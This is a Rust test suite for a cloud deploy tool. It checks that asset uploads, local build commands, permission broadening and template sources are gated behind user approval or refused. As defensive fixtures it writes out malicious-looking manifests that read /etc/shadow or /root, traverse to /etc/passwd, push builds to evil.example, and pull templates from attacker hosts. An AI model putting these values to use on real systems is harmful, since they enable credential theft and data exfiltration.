//! What was approved is what is deployed, and nothing happens before.

use std::fs;
use std::path::Path;
use std::process::Stdio;

use purlin_assembly::{Artifact, CloudAssembly, Environment, StackProperties};
use serde_json::{Value, json};

use crate::company::aws::Aws;
use crate::queues;
use crate::user::{Ended, Terminal, User};

const BUCKET: &str = "cdk-hnb659fds-assets-000000000000-eu-west-1";

struct Account {
    user: User,
    aws: Aws,
}

impl Account {
    fn new() -> Self {
        let user = User::with(&[]);
        let aws = Aws::plain(user.url());
        Self { user, aws }
    }

    fn out(&self) -> std::path::PathBuf {
        self.user.folder().join("purlin.out")
    }

    /// Writes an assembly of the stack `Web` with these assets.
    fn writes(&self, template: &Value, properties: StackProperties, assets: &Value) {
        let properties = StackProperties { template_file: "Web.template.json".into(), ..properties };
        let mut out = CloudAssembly::new();
        out.file("code/main.py", "print(1)").file("data.txt", "the data").json("Web.template.json", template);
        out.json("assets.json", assets);
        let stack = Artifact::of_stack(&Environment::agnostic(), &properties);
        out.artifact("Web", stack.after("Assets"));
        let of_assets = purlin_assembly::AssetManifestProperties { file: "assets.json".into(), ..Default::default() };
        out.artifact("Assets", Artifact::of_assets(&of_assets));
        out.write(&self.out()).expect("a folder of ours");
    }

    fn runs(&self, line: &str) -> Ended {
        let mut command = self.user.command(env!("CARGO_BIN_EXE_purlin"));
        command.env("AWS_ENDPOINT_URL", &self.aws.url).args(line.split_whitespace()).arg("--no-preflight");
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let output = command.output().expect("cargo built it");
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("it prints text");
        Ended { code: output.status.code(), out: text(output.stdout), err: text(output.stderr) }
    }

    fn on_a_terminal(&self, line: &str) -> Terminal {
        let line = format!("{} {line} --no-preflight", env!("CARGO_BIN_EXE_purlin"));
        let mut command = self.user.command("script");
        command.env("AWS_ENDPOINT_URL", &self.aws.url).env("TERM", "xterm");
        command.args(["--quiet", "--flush", "--return", "--command", &line, "/dev/null"]);
        Terminal::of(command)
    }
}

/// Assets with one file of this source, for this destination besides the usual one.
fn file(source: Value, more: &Value) -> Value {
    let mut destination = json!({"bucketName": BUCKET, "objectKey": "asset.bin"});
    for (name, value) in more.as_object().into_iter().flatten() {
        destination[name] = value.clone();
    }
    json!({"version": "36.0.0", "files": {"a": {"source": source, "destinations": {"here": destination}}}})
}

fn image(source: &Value) -> Value {
    let here = json!({"repositoryName": "r", "imageTag": "t"});
    json!({"version": "36.0.0", "dockerImages": {"i": {"source": source, "destinations": {"here": here}}}})
}

/// A template that is too large for a call.
fn large(note: &str) -> Value {
    json!({"Resources": {"Jobs": {"Type": "AWS::SQS::Queue", "Metadata": {"x": "x".repeat(60_000)}, "Properties": {"QueueName": note}}}})
}

fn with_url(url: &str) -> StackProperties {
    StackProperties { stack_template_asset_object_url: Some(url.to_owned()), ..StackProperties::default() }
}

#[test]
fn nothing_leaves_and_no_program_runs_before_the_approval() {
    let none = json!({});
    let foreign = json!({"assumeRoleArn": "arn:aws:iam::999999999999:role/theirs"});
    let run = json!({"executable": ["sh", "-c", "touch RAN; echo purlin.out/data.txt"]});
    let secret = json!({"directory": "code", "dockerBuildSecrets": {"s": "type=file,src=/etc/shadow"}});
    // What is asked about by default.
    let cases = [
        (file(json!({"path": "code", "packaging": "zip"}), &none), None),
        (file(json!({"path": "data.txt", "packaging": "file"}), &none), None),
        (file(run, &none), Some("asset `a` runs `sh -c touch RAN; echo purlin.out/data.txt` on this machine")),
        (
            file(json!({"path": "/etc/hostname"}), &none),
            Some("asset `a` is read from `/etc/hostname`, outside the assembly"),
        ),
        (file(json!({"path": "/etc/apt", "packaging": "zip"}), &none), Some("asset `a` is read from `/etc/apt`")),
        (
            file(json!({"path": "data.txt"}), &foreign),
            Some("`arn:aws:iam::999999999999:role/theirs`, to account `999999999999`"),
        ),
        (image(&json!({"executable": ["./build"]})), Some("asset `i` runs `./build` on this machine")),
        (image(&json!({"directory": "/etc/apt"})), Some("asset `i` is built from `/etc/apt`, outside the assembly")),
        (image(&secret), Some("the build of asset `i` reads `/etc/shadow`, outside the assembly")),
        (
            image(
                &json!({"directory": "code", "dockerBuildContexts": {"home": "/root", "web": "https://example.com/x"}}),
            ),
            Some("the build of asset `i` reads `/root`, outside the assembly"),
        ),
        (
            image(&json!({"directory": "code", "dockerBuildContexts": {"x": "oci-layout:///root/x"}})),
            Some("the build of asset `i` reads `/root/x`, outside the assembly"),
        ),
        (
            image(&json!({"directory": "code", "cacheTo": {"type": "registry", "params": {"ref": "evil.example/x"}}})),
            Some("the build of asset `i` sends its cache to `ref=evil.example/x`"),
        ),
        (
            image(&json!({"directory": "code", "dockerOutputs": ["type=image,name=evil.example/x,push=true"]})),
            Some("the build of asset `i` pushes to `type=image,name=evil.example/x,push=true`"),
        ),
        (
            image(&json!({"directory": "code", "dockerOutputs": ["type=local,dest=../../out"]})),
            Some("the build of asset `i` writes to `../../out`, outside the assembly"),
        ),
    ];
    for (assets, question) in cases {
        let account = Account::new();
        account.writes(&queues(), StackProperties::default(), &assets);
        let asked = account.runs("deploy Web --require-approval any-change");
        assert_eq!(asked.code, Some(4), "{assets}: {asked:#?}");
        for line in ["deploy Web", "deploy Web --no-execute"] {
            if let Some(question) = question {
                let asked = account.runs(line);
                assert!(asked.code == Some(4) && asked.err.contains(question), "{assets}: {asked:#?}");
            }
        }
        let changes = account.aws.changes();
        let is_harmless =
            |call: &String| ["CreateChangeSet", "DeleteChangeSet", "DeleteStack"].contains(&call.as_str());
        assert!(changes.iter().all(is_harmless), "{assets}: {changes:?}");
        assert!(!account.user.folder().join("RAN").exists() && account.aws.stored().is_empty(), "{assets}");
        account.aws.forget();
        if assets["files"].is_object() {
            let agreed = account.runs("deploy Web --yes");
            assert_eq!(agreed.code, Some(0), "{assets}: {agreed:#?}");
            let changes = account.aws.changes();
            let place = |name: &str| changes.iter().position(|call| call.starts_with(name));
            assert!(
                place("CreateChangeSet") < place("PUT ") && place("PUT ") < place("ExecuteChangeSet"),
                "{changes:?}"
            );
        }
    }
}

/// What permits more is asked about before the assets leave this machine, also for a change set that is only prepared, and
/// for a template whose included files CloudFormation reads before it can say what changes.
#[test]
fn assets_wait_for_the_question_about_permissions() {
    let assets = file(json!({"path": "data.txt"}), &json!({}));
    let open = json!({"CidrIp": "0.0.0.0/0", "IpProtocol": "-1"});
    let broad = json!({"Resources": {"Open": {"Type": "AWS::EC2::SecurityGroup",
        "Properties": {"GroupDescription": "open", "SecurityGroupIngress": [open]}}}});
    let mut including = broad.clone();
    including["Transform"] = json!({"Name": "AWS::Include", "Parameters": {"Location": "s3://b/k"}});
    for (template, line) in [
        (&broad, "deploy Web"),
        (&broad, "deploy Web --no-execute"),
        (&including, "deploy Web"),
        (&including, "deploy Web --no-execute"),
    ] {
        let account = Account::new();
        account.writes(template, StackProperties::default(), &assets);
        let asked = account.runs(line);
        assert!(asked.code == Some(4) && asked.err.contains("`Open`"), "{line} {template}: {asked:#?}");
        // Ctrl-C at the question is no consent.
        let mut terminal = account.on_a_terminal(line);
        terminal.sees("continue with `Web`? [y/N]");
        terminal.types("\u{3}");
        assert_ne!(terminal.ends().code, Some(0), "{line} {template}");
        assert!(account.aws.stored().is_empty(), "{line} {template}: {:?}", account.aws.changes());
        assert!(account.user.world().leftovers().is_empty(), "{line} {template}");
        account.aws.forget();
        let agreed = account.runs(&format!("{line} --yes"));
        assert_eq!((agreed.code, account.aws.stored().as_str()), (Some(0), "the data"), "{line}: {agreed:#?}");
        let changes = account.aws.changes();
        let is_executed = changes.contains(&"ExecuteChangeSet".to_owned());
        assert_eq!(is_executed, !line.contains("--no-execute"), "{changes:?}");
    }
    // No asset leaves: a change set is prepared without a question.
    let account = Account::new();
    account.writes(&broad, StackProperties::default(), &json!({"version": "36.0.0"}));
    assert_eq!(account.runs("deploy Web --no-execute").code, Some(0));
}

#[test]
fn paths_that_lead_out_of_the_assembly_are_refused() {
    for (assets, path) in [
        (file(json!({"path": "../../../../etc/passwd"}), &json!({})), "../../../../etc/passwd"),
        (file(json!({"path": "link", "packaging": "zip"}), &json!({})), "link"),
        (image(&json!({"directory": "code/../../.."})), "code/../../.."),
    ] {
        let account = Account::new();
        account.writes(&queues(), StackProperties::default(), &assets);
        std::os::unix::fs::symlink("/etc", account.out().join("link")).unwrap();
        let refused = account.runs("deploy Web --yes");
        assert_eq!(refused.code, Some(3), "{refused:#?}");
        assert!(refused.err.contains(&format!("`{path}` leads out of the assembly")), "{refused:#?}");
        assert!(account.aws.changes().is_empty(), "{:?}", account.aws.changes());
    }
}

#[test]
fn a_template_comes_from_the_bootstrap_bucket_alone() {
    let own = format!("s3://{BUCKET}/t.json");
    let template_asset = |bucket: &str, key: &str, more: &Value| {
        let mut assets = file(json!({"path": "Web.template.json", "packaging": "file"}), more);
        let here = &mut assets["files"]["a"]["destinations"]["here"];
        (here["bucketName"], here["objectKey"]) = (bucket.into(), key.into());
        assets
    };
    let foreign = json!({"assumeRoleArn": "arn:aws:iam::999999999999:role/theirs"});
    for (url, assets, why) in [
        ("s3://attacker-bucket/evil.json", file(json!({"path": "data.txt"}), &json!({})), "the bootstrap bucket is"),
        (
            "s3://attacker-bucket/t.json",
            template_asset("attacker-bucket", "t.json", &json!({})),
            "the bootstrap bucket is",
        ),
        ("https://attacker.example/t.json", template_asset(BUCKET, "t.json", &json!({})), "no address of an object"),
        (
            "s3://cdk-hnb659fds-assets-999999999999-eu-west-1/t.json",
            json!({"version": "36.0.0"}),
            "the bootstrap bucket is",
        ),
        (own.as_str(), template_asset(BUCKET, "t.json", &foreign), "a role of account `999999999999`"),
    ] {
        let account = Account::new();
        account.writes(&large("mine"), with_url(url), &assets);
        let refused = account.runs("deploy Web --yes");
        assert_eq!(refused.code, Some(3), "{refused:#?}");
        assert!(refused.err.contains("stack `Web` has its template at `") && refused.err.contains(why), "{refused:#?}");
        let changes = account.aws.changes();
        assert!(changes.iter().all(|call| call == "AssumeRole"), "{changes:?}");
    }
    // Somebody put another one under the known name: it is replaced before CloudFormation reads it.
    let account = Account::new();
    let template = large("mine");
    account.writes(&template, with_url(&own), &template_asset(BUCKET, "t.json", &json!({})));
    account.aws.has_object(&format!("/{BUCKET}/t.json"), Some("ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0="));
    let url = format!("{}/{BUCKET}/t.json", account.aws.url);
    account.user.world().objects.insert(url.clone(), template);
    let deployed = account.runs("deploy Web");
    assert_eq!(deployed.code, Some(0), "{deployed:#?}");
    assert_eq!(account.aws.changes()[..2], [format!("PUT /{BUCKET}/t.json"), "CreateChangeSet".to_owned()]);
    // And put it there again in the moment between: it is seen in the change set.
    account.writes(&large("changed"), with_url(&own), &template_asset(BUCKET, "t.json", &json!({})));
    account.user.world().objects.insert(url, large("theirs"));
    account.aws.forget();
    let refused = account.runs("deploy Web --yes --require-approval never");
    assert_eq!(refused.code, Some(4), "{refused:#?}");
    for expected in [
        "another template of stack `Web`",
        "another value at `Resources.Jobs.Properties.QueueName`",
        "hint: nothing was",
    ] {
        assert!(refused.err.contains(expected), "{expected}: {refused:#?}");
    }
    assert!(!account.aws.changes().contains(&"ExecuteChangeSet".to_owned()));
    assert!(account.user.world().leftovers().is_empty());
}

#[test]
fn an_object_that_is_there_is_believed_by_its_checksum() {
    // `printf 'the data' | openssl dgst -sha256 -binary | base64`
    let right = "6y6m3hp6rCaTxRIBlKAayi+jRitqJ7EVgvT9MUpYCsc=";
    for (there, is_sent) in [
        (None, true),
        (Some(None), true),
        (Some(Some("ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=")), true),
        (Some(Some(right)), false),
    ] {
        let account = Account::new();
        account.writes(&queues(), StackProperties::default(), &file(json!({"path": "data.txt"}), &json!({})));
        if let Some(there) = there {
            account.aws.has_object(&format!("/{BUCKET}/asset.bin"), there);
        }
        let deployed = account.runs("deploy Web");
        assert_eq!(deployed.code, Some(0), "{deployed:#?}");
        assert_eq!(account.aws.stored() == "the data", is_sent, "{there:?}: {:?}", account.aws.changes());
    }
}

/// What happens to the folder, and how.
type Rewrite = (&'static str, fn(&Path));

#[test]
fn a_synthesis_during_the_question_is_not_deployed() {
    let assets = file(json!({"path": "code", "packaging": "zip"}), &json!({}));
    let rewrites: [Rewrite; 3] = [
        ("the code", |out| fs::write(out.join("code/main.py"), "print(2)").unwrap()),
        ("a new file", |out| fs::write(out.join("code/more.py"), "").unwrap()),
        ("all of it", |out| fs::remove_dir_all(out).unwrap()),
    ];
    for (what, rewrite) in rewrites {
        let account = Account::new();
        account.writes(&queues(), StackProperties::default(), &assets);
        let mut terminal = account.on_a_terminal("deploy Web --require-approval any-change");
        terminal.sees("continue with `Web`? [y/N]");
        rewrite(&account.out());
        terminal.types("y\n");
        let ended = terminal.ends();
        assert_ne!(ended.code, Some(0), "{what}: {}", ended.out);
        assert!(!account.aws.changes().contains(&"ExecuteChangeSet".to_owned()), "{what}");
        assert!(account.user.world().leftovers().is_empty(), "{what}");
    }
    // Another template, and other assets: what was read is deployed.
    let account = Account::new();
    account.writes(&queues(), StackProperties::default(), &json!({"version": "36.0.0"}));
    let mut terminal = account.on_a_terminal("deploy Web --require-approval any-change");
    terminal.sees("continue with `Web`? [y/N]");
    account.writes(&large("theirs"), StackProperties::default(), &assets);
    terminal.types("y\n");
    assert_eq!(terminal.ends().code, Some(0));
    assert!(account.user.world().newest("Web").unwrap().template["Resources"].get("First").is_some());
    assert!(account.aws.stored().is_empty());
}

#[test]
fn a_nested_stack_of_the_assembly_is_compared_by_its_template() {
    let url = format!("https://s3.eu-west-1.amazonaws.com/{BUCKET}/n.json");
    let parent = |child: &str, url: &str| {
        let properties = json!({"TemplateURL": url, "Parameters": {"Open": child}});
        let metadata = json!({"aws:asset:path": "n.json", "aws:asset:property": "TemplateURL"});
        json!({"Resources": {
            "Child": {"Type": "AWS::CloudFormation::Stack", "Properties": properties, "Metadata": metadata},
        }})
    };
    let child = |action: &str| {
        let statement = json!({"Effect": "Allow", "Action": action, "Resource": "*"});
        let denial = json!({"Effect": "Deny", "Action": "s3:Delete*", "Resource": "*"});
        let denial = json!({"Fn::If": ["IsOpen", {"Ref": "AWS::NoValue"}, denial]});
        let properties =
            json!({"PolicyName": "p", "Roles": ["r"], "PolicyDocument": {"Statement": [statement, denial]}});
        json!({
            "Parameters": {"Open": {"Type": "String", "Default": "no"}},
            "Conditions": {"IsOpen": {"Fn::Equals": [{"Ref": "Open"}, "yes"]}},
            "Resources": {"Policy": {"Type": "AWS::IAM::Policy", "Properties": properties}},
        })
    };
    let account = Account::new();
    let mut assets = file(json!({"path": "n.json", "packaging": "file"}), &json!({}));
    assets["files"]["a"]["destinations"]["here"]["objectKey"] = "n.json".into();
    let deploys = |template: &Value, nested: &Value, line: &str| {
        account.writes(template, StackProperties::default(), &assets);
        fs::write(account.out().join("n.json"), nested.to_string()).unwrap();
        account.user.world().objects.insert(url.clone(), nested.clone());
        account.runs(line)
    };
    let created = deploys(&parent("no", &url), &child("s3:*"), "deploy Web --unchecked --yes");
    assert_eq!(created.code, Some(0), "{created:#?}");
    // The template and the values, another place, and what is asked.
    let theirs = "https://s3.eu-west-1.amazonaws.com/theirs/n.json";
    let cases = [
        (parent("no", &url), child("s3:Get*"), None),
        (parent("no", &url), child("*"), Some("Child/Policy (AWS::IAM::Policy): allows")),
        (parent("yes", &url), child("s3:*"), Some("Child/Policy (AWS::IAM::Policy): no longer denies")),
        (parent("no", theirs), child("s3:*"), Some("Child (AWS::CloudFormation::Stack): creates the resources of")),
    ];
    for (template, nested, question) in cases {
        let mut template = template;
        template["Resources"]["Jobs"] = json!({"Type": "AWS::SQS::Queue"});
        let ended = deploys(&template, &nested, "deploy Web --unchecked --require-approval broadening --no-execute");
        let asked = ended.err.lines().find(|line| line.trim_start().starts_with("Child"));
        match question {
            Some(question) => assert!(ended.code == Some(4) && ended.err.contains(question), "{ended:#?}"),
            None => assert!(ended.code == Some(0) && asked.is_none(), "{ended:#?}"),
        }
    }
}
